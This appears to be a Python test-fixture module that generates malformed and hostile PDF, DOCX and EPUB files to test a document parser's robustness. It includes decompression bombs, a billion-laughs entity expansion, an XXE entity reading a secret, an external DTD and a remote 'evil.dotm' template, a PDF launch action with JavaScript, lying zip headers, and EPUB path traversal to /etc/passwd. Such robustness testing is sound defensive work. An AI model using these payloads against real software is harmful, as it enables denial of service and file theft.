"""Hostile files that are packed: PDF, DOCX, EPUB; bombs, loops, locks, lies, and wishes for other files."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import cache

from docx import Document

PARSED = "parsed"
Files = dict[str, tuple[bytes, str]]
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def pdf_of(*objects: bytes, trailer: bytes = b"") -> bytes:
    """Returns a PDF of the given objects, numbered from 1; the first is the catalogue."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%b\nendobj\n" % (number, body))
    table = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer\n<</Size %d /Root 1 0 R %b>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, table))
    return out.getvalue()


def stream(body: bytes, entries: bytes = b"") -> bytes:
    """Returns a PDF stream object."""
    return b"<</Length %d %b>>\nstream\n%b\nendstream" % (len(body), entries, body)


_CATALOGUE = b"<</Type /Catalog /Pages 2 0 R>>"
_PAGES = b"<</Type /Pages /Kids [3 0 R] /Count 1>>"
_FONT = b"<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>"


def _page(extra: bytes = b"") -> bytes:
    return (
        b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources <</Font <</F 5 0 R>> %b>>>>"
        % extra
    )


def _drawing(words: bytes) -> bytes:
    return stream(b"BT /F 12 Tf 50 700 Td (" + words + b") Tj ET")


def good_pdf(*pages: str) -> bytes:
    """Returns a PDF with a line of text on each page."""
    kids = b" ".join(b"%d 0 R" % (4 + 2 * index) for index in range(len(pages)))
    objects = [_CATALOGUE, b"<</Type /Pages /Kids [%b] /Count %d>>" % (kids, len(pages)), _FONT]
    for index, words in enumerate(pages):
        objects.append(
            b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents %d 0 R /Resources <</Font <</F 3 0 R>>>>>>"
            % (5 + 2 * index)
        )
        objects.append(_drawing(words.encode("latin-1")))
    return pdf_of(*objects)


def portable(url: str, secret: str) -> Files:
    good = good_pdf("Seen.")
    bomb = zlib.compress(zlib.compress(bytes(400 << 20), 1), 9)
    flate = b"/Filter [/FlateDecode /FlateDecode]"
    locked = b"/Encrypt <</Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <%b> /U <%b>>> /ID [<00> <00>]" % (
        b"41" * 32,
        b"42" * 32,
    )
    self_drawn = stream(
        b"/X Do BT /F 12 Tf (Seen.) Tj ET",
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources <</XObject <</X 6 0 R>>>>",
    )
    action = b"<</Type /Catalog /Pages 2 0 R /OpenAction <</S /Launch /F (/bin/touch) /P (pwned)>>"
    action += b" /AA <</WC <</S /URI /URI (%b)>>>> /Names <</JavaScript"
    action += b" <</Names [(a) <</S /JavaScript /JS (app.alert\\(1\\))>>]>>>>>>"
    broken = "PDF is broken|has text|shows no text|" + PARSED
    return {
        "empty.pdf": (b"", "it is empty"),
        "text.pdf": (b"This is no PDF.", "no PDF"),
        "cut.pdf": (good[: len(good) // 2], broken),
        "garbage.pdf": (b"%PDF-1.7\n" + bytes(range(256)) * 400, broken),
        "locked.pdf": (
            pdf_of(_CATALOGUE, _PAGES, _page(), _drawing(b"Secret."), _FONT, trailer=locked),
            "locked with a password",
        ),
        "self-parent.pdf": (pdf_of(_CATALOGUE, b"<</Type /Pages /Kids [2 0 R 2 0 R] /Count 2>>"), broken),
        "self-drawn.pdf": (
            pdf_of(_CATALOGUE, _PAGES, _page(b"/XObject <</X 6 0 R>>"), stream(b"/X Do"), _FONT, self_drawn),
            broken,
        ),
        "many-pages.pdf": (
            pdf_of(_CATALOGUE, b"<</Type /Pages /Kids [3 0 R] /Count 1000000000>>", _page(), _drawing(b"x"), _FONT),
            broken + "|time|memory|crashed",
        ),
        "circular-table.pdf": (pdf_of(_CATALOGUE, _PAGES, _page(), _drawing(b"x"), _FONT, trailer=b"/Prev 9"), broken),
        "bomb.pdf": (
            pdf_of(_CATALOGUE, _PAGES, _page(), stream(bomb, flate), _FONT),
            broken + "|time|memory|crashed",
        ),
        "actions.pdf": (
            pdf_of(action.replace(b"%b", url.encode()), _PAGES, _page(), _drawing(secret.encode()), _FONT),
            broken,
        ),
        "nested-arrays.pdf": (
            pdf_of(
                b"<</Type /Catalog /Pages 2 0 R /X " + b"[" * 100_000 + b">>", _PAGES, _page(), _drawing(b"x"), _FONT
            ),
            broken + "|crashed",
        ),
    }


@cache
def good_docx() -> bytes:
    """Returns a small document of python-docx."""
    document = Document()
    document.add_heading("Rome", 1)
    document.add_paragraph("Rome is old.")
    table = document.add_table(2, 2)
    table.cell(0, 0).text = "city"
    table.cell(1, 1).text = "river"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def zip_of(entries: dict[str, bytes]) -> bytes:
    """Returns a deflated zip."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def _docx_with(part: str, content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(good_docx())) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    return zip_of({**entries, part: content})


def _body(inner: str, doctype: str = "") -> bytes:
    return f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{_W}"><w:body>{inner}</w:body></w:document>'.encode()


def word(url: str, secret: str) -> Files:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    paragraph = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
    remote = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        f' Target="{url}evil.dotm" TargetMode="External"/></Relationships>'
    )
    spanning = (
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p><w:r><w:t>wide</w:t></w:r></w:p>'
        "</w:tc></w:tr></w:tbl>"
    )
    refused = "broken|shows no text|" + PARSED
    return {
        "laughs.docx": (
            _docx_with(
                "word/document.xml", _body(paragraph.format("&l9;"), f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]>')
            ),
            refused,
        ),
        "entity.docx": (
            _docx_with(
                "word/document.xml", _body(paragraph.format("&x;"), f'<!DOCTYPE d [<!ENTITY x SYSTEM "{secret}">]>')
            ),
            refused,
        ),
        "dtd.docx": (
            _docx_with("word/document.xml", _body(paragraph.format("x"), f'<!DOCTYPE d SYSTEM "{url}evil.dtd">')),
            refused,
        ),
        "remote.docx": (_docx_with("word/_rels/settings.xml.rels", remote.encode()), PARSED),
        "spanning.docx": (_docx_with("word/document.xml", _body(spanning)), PARSED),
        "deep.docx": (_docx_with("word/document.xml", _body("<w:sdt>" * 100_000)), refused),
        "tables.docx": (
            _docx_with("word/document.xml", _body("<w:tbl><w:tr><w:tc>" * 80 + "</w:tc></w:tr></w:tbl>" * 80)),
            refused,
        ),
        "bomb.docx": (_docx_with("word/document.xml", b" " * (256 << 20)), "unpacks to more"),
        "cut.docx": (good_docx()[:-3_000], "broken"),
        "text.docx": (b"This is no DOCX.", "broken"),
        "empty.docx": (zip_of({}), "broken"),
    }


def documents(url: str, secret: str) -> Files:
    del url, secret
    lying = bytearray(zip_of({"word/document.xml": bytes(32 << 20)}))
    # Both headers say that the entry unpacks to 100 bytes.
    for magic, place in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        lying[lying.index(magic) + place : lying.index(magic) + place + 4] = struct.pack("<I", 100)
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as archive:
        for number in range(100_000):
            archive.writestr(f"{number}.xml", b"")
    return {
        "lying.docx": (bytes(lying), "broken|unpacks"),
        "many.docx": (many.getvalue(), "holds 100,000 files"),
    }


def book_of(chapters: dict[str, bytes], spine: list[str]) -> bytes:
    """Returns an EPUB; `spine` names the files of its chapters, also such as are not there."""
    items = "".join(
        f'<item id="c{n}" href="{name}" media-type="application/xhtml+xml"/>' for n, name in enumerate(spine)
    )
    order = "".join(f'<itemref idref="c{n}"/>' for n in range(len(spine)))
    package = (
        '<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf"><metadata '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>A book</dc:title></metadata>'
        f"<manifest>{items}</manifest><spine>{order}</spine></package>"
    )
    container = '<container><rootfiles><rootfile full-path="OPS/book.opf"/></rootfiles></container>'
    entries = {"META-INF/container.xml": container.encode(), "OPS/book.opf": package.encode()}
    return zip_of({"mimetype": b"application/epub+zip", **entries, **{f"OPS/{n}": c for n, c in chapters.items()}})


def books(url: str, secret: str) -> Files:
    page = f'<html><body><p>Seen.</p><img src="{url}x.png"/><iframe src="{secret}"/></body></html>'.encode()
    inner = zip_of({"inner.zip": zip_of({"zeros": bytes(64 << 20)})})
    return {
        "climbing.epub": (book_of({"a.html": page}, ["a.html", "../../../../etc/passwd", secret, url]), PARSED),
        "circling.epub": (book_of({"a.html": page}, ["a.html"] * 5_000), PARSED),
        "bomb.epub": (book_of({"a.html": b"<p>" + bytes(250 << 20)}, ["a.html"]), "unpacks to more"),
        "nested.epub": (book_of({"a.html": page, "inner.epub": inner}, ["a.html", "inner.epub"]), PARSED),
        "missing.epub": (book_of({}, ["a.html"]), "shows no text"),
        "no-book.epub": (zip_of({"a": b"a"}), "it has no META-INF"),
    }
